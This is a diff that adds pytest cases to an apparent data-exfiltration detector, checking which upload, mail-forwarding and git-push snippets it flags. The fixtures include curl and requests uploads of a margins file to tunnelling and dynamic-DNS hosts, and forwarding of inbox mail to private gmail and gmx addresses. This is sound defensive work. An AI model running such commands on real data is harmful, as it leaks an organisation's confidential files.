@@ -164,3 +164,49 @@ def test_more_long_commands_than_can_be_told_apart_are_said_not_passed(vault_key
 def test_running_a_model_s_answer_is_told_once(vault_key):
     text = "import openai\nreply = openai.OpenAI().responses.create(input='x')\nexec(reply.output_text)\n"
     assert rules(vault_key, text) == {"asks-model", "runs-answer"}
+
+
+@pytest.mark.parametrize(
+    ("host", "is_told"),
+    [
+        ("files.corp.acme.com", False),
+        ("intranet.acme.com.br", False),
+        ("erp.intern.acme.de", False),
+        ("dms.corp.example", False),
+        ("acme.sharepoint.com", False),
+        ("acme-my.sharepoint.com", True),
+        ("upload.corp.com", True),
+        ("lan.com.br", True),
+        ("corp.s3.amazonaws.com", True),
+        ("intranet.ngrok.io", True),
+        ("intern.duckdns.org", True),
+        ("partner.example", True),
+    ],
+)
+def test_a_host_that_is_called_inner_is_the_company_s_where_not_anybody_may_call_it_so(vault_key, host, is_told):
+    text = f"import requests\nrequests.post('https://{host}/in', files={{'f': open('margins.csv', 'rb')}})\n"
+    assert rules(vault_key, text) == ({"data-to-upload"} if is_told else set())
+    shell = f"curl -F file=@margins.csv https://{host}/in\n"
+    assert rules(vault_key, shell, path="a.sh") == ({"data-to-upload"} if is_told else set())
+
+
+def test_a_file_put_on_the_company_s_team_site_is_no_way_out_and_on_a_person_s_it_is(vault_key):
+    text = 'Connect-PnPOnline -Url "https://{}"\nAdd-PnPFile -Path .\\margins.xlsx -Folder Reports\n'
+    assert rules(vault_key, text.format("acme.sharepoint.com/sites/sales"), path="a.ps1") == set()
+    told = rules(vault_key, text.format("acme-my.sharepoint.com/personal/ana"), path="a.ps1")
+    assert told == {"data-to-upload"}
+
+
+def test_a_mail_passed_on_to_a_private_mailbox_is_told(vault_key):
+    outlook = "m = box.Items.GetFirst()\nf = m.Forward()\nf.To = '{}'\nf.Send()\n"
+    assert rules(vault_key, outlook.format("ana@gmx.de")) == {"data-to-private-mailbox"}
+    assert rules(vault_key, outlook.format("ana@corp.example")) == set()
+    exchange = "for item in account.inbox.all():\n    item.forward('fw', '', to_recipients=['{}'])\n"
+    assert rules(vault_key, exchange.format("ana@gmail.com")) == {"data-to-private-mailbox"}
+    assert rules(vault_key, "y = network.forward(x)\n") == set()
+
+
+def test_a_command_that_a_function_of_the_script_puts_together_is_read_as_its_callers_say_it(vault_key):
+    text = "import subprocess\ndef vcs(*words):\n    subprocess.run(['git', *words], check=True)\nvcs('add', '-A')\nvcs('push', '{}')\n"
+    assert rules(vault_key, text.format("https://github.com/ana/figures.git")) == {"data-to-upload"}
+    assert rules(vault_key, text.format("https://git.corp.example/figures.git")) == set()
